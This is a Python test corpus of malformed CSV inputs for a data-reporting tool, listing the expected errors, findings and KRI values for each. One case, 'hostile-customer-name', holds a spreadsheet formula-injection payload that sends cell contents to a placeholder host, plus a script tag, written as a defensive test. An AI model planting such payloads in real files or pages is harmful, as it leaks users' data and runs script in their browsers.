"""A corpus of malformed inputs: each one a change to the tiny company (tests/conftest.py) and what
it must end as — a one-line error naming the file (and row and column where there is one), or a
finding with its location that the report and results.json show, and what it does to a KRI.

Row numbers are as a spreadsheet shows them: the header is row 1. The tiny company's orders have
9 data rows (rows 2-10), so a line appended to them is row 11.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from tests.conftest import TINY

OH = "order_id,order_date,customer_id,unit,amount\n"  # a minimal orders header
CLEAN_GROWTH = (1600 / 1800 - 1) * 100  # revenue growth of the tiny company in 2026Q3 (test_kris.py)


@dataclass(frozen=True)
class Case:
    """One malformed input. ``files`` replaces files of the tiny company (None removes one, "DIR" makes
    a folder of it). Either ``error`` (a substring of the one-line error; ``row``/``column`` must be in
    it), or ``finding`` = (check, table, column, row) and optionally ``kri`` = (id, value or None for n/a)."""

    id: str
    files: dict[str, str | bytes | None]
    error: str | None = None
    row: int | None = None
    column: str | None = None
    finding: tuple[str, str, str | None, int] | None = None
    kri: tuple[str, float | None] | None = None
    value: str | None = None  # the raw value the finding shows
    extra: dict = field(default_factory=dict)


def orders_plus(line: str) -> dict[str, str]:
    return {"orders.csv": TINY["orders"] + line}


def with_line(table: str, line: str) -> dict[str, str]:
    return {f"{table}.csv": TINY[table] + line}


CASES: list[Case] = [
    # ---- files and tables that cannot be used: the run stops with one line ----
    Case("empty-file", {"orders.csv": ""}, error="orders.csv: is empty (0 bytes)"),
    Case("header-only-orders", {"orders.csv": OH}, error="orders.csv: has a header but no rows"),
    Case("orders-is-a-folder", {"orders.csv": "DIR"}, error="orders.csv: is a folder, not a file"),
    Case("two-files-one-table", {"orders.xlsx": "x"}, error="2 files claim table 'orders' (orders.csv, orders.xlsx)"),
    Case(
        "duplicate-column-names",
        {"orders.csv": OH.strip() + ",amount\nO1,2026-07-01,A,u,1,2\n"},
        error="two columns are both called 'amount' (columns 5 and 6)",
        column="amount",
    ),
    Case(
        "missing-required-column",
        {"orders.csv": "order_id,order_date,customer_id,unit\nO1,2026-07-01,A,u\n"},
        error="missing required column 'amount'",
        column="amount",
    ),
    Case(
        "utf16-file",
        {"orders.csv": TINY["orders"].encode("utf-16")},
        error="orders.csv: is not UTF-8: it looks like utf-16 — save it as UTF-8, or read it through a sources: "
        "mapping with encoding: utf-16",
    ),
    Case(
        "gbk-file",
        {"customers.csv": "customer_id,customer_name,unit\nA,阿尔法,u\n".encode("gbk")},
        error="customers.csv: is not UTF-8: it looks like gb18030",
    ),
    Case("binary-junk", {"orders.csv": bytes(range(256)) * 4}, error="orders.csv: is not UTF-8"),
    Case("no-header-row", {"orders.csv": "\n\nO1,2026-07-01,A,u,1\n"}, error="orders.csv: has no header row"),
    Case(
        "dayfirst-dates-throughout",
        {"orders.csv": OH + "O1,03/07/2026,A,u,10\nO2,31/08/2026,A,u,10\n"},
        error="2 of 2 values are not dates (first: '03/07/2026')",
        row=2,
        column="order_date",
    ),
    Case(
        "currency-signs-throughout",
        {"orders.csv": OH + 'O1,2026-07-01,A,u,"¥1,000"\nO2,2026-07-02,A,u,¥20\n'},
        error="2 of 2 values are not numbers (first: '¥1,000')",
        row=2,
        column="amount",
    ),
    Case(
        "ragged-row",
        {"orders.csv": OH + "O1,2026-07-01,A,u,10\nO2,2026-07-01,A,u,1,000\n"},
        error="6 fields where the header has 5",
        row=3,
    ),
    Case(
        "units-not-slugs",
        {"orders.csv": OH + "O1,2026-07-01,A,East China,10\nO2,2026-07-02,A,West China,5\n"},
        error="2 of 2 unit values are not lowercase slugs",
        row=2,
        column="unit",
    ),
    Case(
        "unit-300-characters",
        {"orders.csv": OH + "O1,2026-07-01,A," + "x" * 300 + ",10\n"},
        error="of up to 64 characters",
        row=2,
        column="unit",
    ),
    Case(
        "every-status-invalid",
        {"orders.csv": OH.strip() + ",status\nO1,2026-07-01,A,u,10,done\n"},
        error="1 of 1 values are not one of completed, cancelled, returned (first: 'done')",
        row=2,
        column="status",
    ),
    Case("csv-named-xlsx", {"orders.csv": None, "orders.xlsx": TINY["orders"]}, error="orders.xlsx: cannot be read"),
    Case(
        "parquet-not-parquet",
        {"orders.csv": None, "orders.parquet": b"PAR1 not really"},
        error="orders.parquet: cannot be read",
    ),
    Case(
        "no-unit-anywhere",
        {"orders.csv": OH + "O1,2026-07-01,A,,10\n"},
        error="no row has a usable unit",
        column="unit",
    ),
    Case(
        "no-order-date-anywhere",
        {"orders.csv": OH + "O1,,A,u,10\n"},
        error="no order line has a usable order_date",
        column="order_date",
    ),
    Case("payments-without-invoices", {"invoices.csv": None}, error="payments need invoices too"),
    Case("no-orders-table", {"orders.csv": None}, error="orders.csv: required table 'orders' not found"),
    Case("empty-optional-file", {"incidents.csv": ""}, error="incidents.csv: is empty (0 bytes)"),
    Case(
        "every-disputed-unreadable",
        {"invoices.csv": TINY["invoices"].replace(",false", ",maybe").replace(",true", ",sure")},
        error="values are not true/false (first: 'maybe')",
        row=2,
        column="disputed",
    ),
    # ---- row problems: a finding with its location, the pack is built ----
    Case(
        "one-unreadable-date",
        orders_plus("O10,2026-13-45,A,u,10,r1,p1,,,,completed,\n"),
        finding=("unparseable_value", "orders", "order_date", 11),
        value="2026-13-45",
        kri=("revenue_growth", CLEAN_GROWTH),
    ),
    Case(
        "one-unreadable-amount",
        orders_plus("O10,2026-08-01,A,u,12x,r1,p1,,,,completed,\n"),
        finding=("unparseable_value", "orders", "amount", 11),
        value="12x",
        kri=("revenue_growth", CLEAN_GROWTH),
    ),
    Case(
        "blank-amount",
        orders_plus("O10,2026-08-01,A,u,,r1,p1,,,,completed,\n"),
        finding=("missing_value", "orders", "amount", 11),
        kri=("revenue_growth", CLEAN_GROWTH),
    ),
    Case(
        "blank-order-id",
        orders_plus(",2026-08-01,A,u,0.5,r1,p9,,,,completed,\n"),
        finding=("missing_value", "orders", "order_id", 11),
    ),
    Case(
        "blank-customer-id-counts-in-revenue",
        orders_plus("O10,2026-08-01,,u,180,r1,p1,,,,completed,\n"),
        finding=("missing_value", "orders", "customer_id", 11),
        kri=("revenue_growth", (1780 / 1800 - 1) * 100),
    ),
    Case(
        "empty-due-date",
        with_line("invoices", "i6,C,u,2026-09-01,,400,false\n"),
        finding=("missing_value", "invoices", "due_date", 7),
        kri=("overdue_ratio", (600 + 500) / (600 + 500 + 200 + 100) * 100),
    ),
    Case(
        "unknown-customer",
        orders_plus("O10,2026-08-01,ZZ,u,10,r1,p1,,,,completed,\n"),
        finding=("unknown_id", "orders", "customer_id", 11),
        value="ZZ",
    ),
    Case(
        "unknown-rep",
        orders_plus("O10,2026-08-01,A,u,10,r99,p1,,,,completed,\n"),
        finding=("unknown_id", "orders", "rep_id", 11),
        value="r99",
    ),
    Case(
        "payment-for-no-invoice",
        with_line("payments", "i404,2026-09-10,300\n"),
        finding=("unknown_id", "payments", "invoice_id", 5),
        value="i404",
        kri=("overdue_ratio", (600 + 500) / (600 + 500 + 200 + 100) * 100),
    ),
    Case(
        "payment-exceeds-invoice",
        with_line("payments", "i4,2026-08-02,50\n"),
        finding=("overpayment", "invoices", "amount", 5),
    ),
    Case(
        "due-before-issue",
        with_line("invoices", "i6,C,u,2026-09-01,2026-08-01,400,false\n"),
        finding=("date_order", "invoices", "due_date", 7),
        kri=("overdue_ratio", (600 + 500) / (600 + 500 + 200 + 100) * 100),
    ),
    Case(
        "exit-before-hire",
        with_line("reps", "r5,Rep Five,u,2026-08-01,2026-07-15,100\n"),
        finding=("date_order", "reps", "exit_date", 6),
        kri=("rep_attrition_rate", 2 / ((3 + 2) / 2) * 100),  # r1 and r4 left in the 12 months to date
    ),
    Case(
        "customer-in-two-units",
        with_line("customers", "A,Alpha Ltd,v,500\n"),
        finding=("unit_conflict", "customers", "unit", 2),
    ),
    Case(
        "amount-1e15",
        orders_plus("O10,2026-08-01,A,u,1e15,r1,p1,10,120,120,completed,false\n"),
        finding=("amount_mismatch", "orders", "amount", 11),
        value="1e+15",
        kri=("revenue_growth", CLEAN_GROWTH),
    ),
    Case(
        "zero-amount",
        orders_plus("O10,2026-08-01,A,u,0,r1,p1,,,,completed,\n"),
        finding=("zero_amount", "orders", "amount", 11),
        kri=("revenue_growth", CLEAN_GROWTH),
    ),
    Case(
        "severity-7",
        with_line("incidents", "n5,u,2026-09-09,other,7\n"),
        finding=("invalid_value", "incidents", "severity", 6),
        value="7",
        kri=("incident_count", 9),
    ),
    Case(
        "unknown-incident-category",
        with_line("incidents", "n5,u,2026-09-09,fire,2\n"),
        finding=("invalid_value", "incidents", "category", 6),
        value="fire",
    ),
    Case(
        "one-pending-opportunity",
        with_line("opportunities", "o7,u,2026-07-01,pending,50,,\n"),
        finding=("invalid_value", "opportunities", "status", 8),
        value="pending",
        kri=("pipeline_coverage", 1300 / 500),
    ),
    Case(
        "prospect-without-created-date",
        with_line("opportunities", "o7,u,,open,5000,,\n"),
        finding=("missing_value", "opportunities", "created_date", 8),
        kri=("pipeline_coverage", 1300 / 500),
    ),
    Case(
        "exact-duplicate-line",
        orders_plus("O6,2026-08-10,C,u,100,r2,p2,10,10,10,completed,false\n"),
        finding=("duplicate_row", "orders", None, 11),
        kri=("revenue_growth", CLEAN_GROWTH),
    ),
    Case(
        "invoice-id-twice-other-amount",
        with_line("invoices", "i2,C,u,2026-08-01,2026-08-31,9999,false\n"),
        finding=("duplicate_key", "invoices", None, 7),
        kri=("overdue_ratio", (600 + 500) / (600 + 500 + 200 + 100) * 100),
    ),
    Case(
        "future-dated-order",
        orders_plus("O10,2027-03-01,A,u,75,r1,p1,,,,completed,\n"),
        finding=("future_date", "orders", "order_date", 11),
        kri=("revenue_growth", CLEAN_GROWTH),
    ),
    Case(
        "negative-completed-line",
        orders_plus("O10,2026-08-01,A,u,-40,r1,p1,,,,completed,\n"),
        finding=("negative_amount", "orders", "amount", 11),
        value="-40",
        kri=("revenue_growth", CLEAN_GROWTH),
    ),
    Case(
        "one-unit-not-a-slug",
        orders_plus("O10,2026-08-01,A,East China,10,r1,p1,,,,completed,\n"),
        finding=("invalid_unit", "orders", "unit", 11),
        value="East China",
        kri=("revenue_growth", CLEAN_GROWTH),
    ),
    Case(
        "one-unit-300-characters",
        orders_plus("O10,2026-08-01,A," + "y" * 300 + ",10,r1,p1,,,,completed,\n"),
        finding=("invalid_unit", "orders", "unit", 11),
        kri=("revenue_growth", CLEAN_GROWTH),
    ),
    Case(
        "reserved-unit-group",
        orders_plus("O10,2026-08-01,A,group,10,r1,p1,,,,completed,\n"),
        finding=("invalid_unit", "orders", "unit", 11),
        value="group",
    ),
    Case(
        "one-unreadable-disputed",
        with_line("invoices", "i6,C,u,2026-09-01,2026-10-01,10,maybe\n"),
        finding=("unparseable_value", "invoices", "disputed", 7),
        value="maybe",
        kri=("dispute_rate", 1 / 4 * 100),
    ),
    Case(
        "one-invalid-status",
        orders_plus("O10,2026-08-01,A,u,500,r1,p1,,,,done,\n"),
        finding=("invalid_value", "orders", "status", 11),
        value="done",
        kri=("revenue_growth", CLEAN_GROWTH),
    ),
    Case(
        "negative-invoice",
        with_line("invoices", "i6,C,u,2026-09-01,2026-10-01,-400,false\n"),
        finding=("negative_amount", "invoices", "amount", 7),
    ),
    Case(
        "close-before-created",
        with_line("opportunities", "o7,u,2026-07-10,won,90,2026-07-01,\n"),
        finding=("date_order", "opportunities", "close_date", 8),
        kri=("win_rate", 2 / 4 * 100),
    ),
    Case(
        "hostile-customer-name",
        with_line("customers", 'H1,"=HYPERLINK(""http://x/?""&A1,""open"")<script>x</script>",u,=1+1\n'),
        finding=("unparseable_value", "customers", "credit_limit", 6),  # a formula for a number: a finding
    ),
    # ---- quirks that must simply work ----
    Case("semicolon-delimited", {"orders.csv": TINY["orders"].replace(",", ";")}, kri=("revenue_growth", CLEAN_GROWTH)),
    Case(
        "upper-case-file-name", {"orders.csv": None, "Orders.CSV": TINY["orders"]}, kri=("revenue_growth", CLEAN_GROWTH)
    ),
    Case(
        "padded-header",
        {"orders.csv": TINY["orders"].replace("amount,", " amount ,", 1)},
        kri=("revenue_growth", CLEAN_GROWTH),
    ),
    Case(
        "bom-and-crlf",
        {"orders.csv": ("\ufeff" + TINY["orders"]).replace("\n", "\r\n")},
        kri=("revenue_growth", CLEAN_GROWTH),
    ),
]
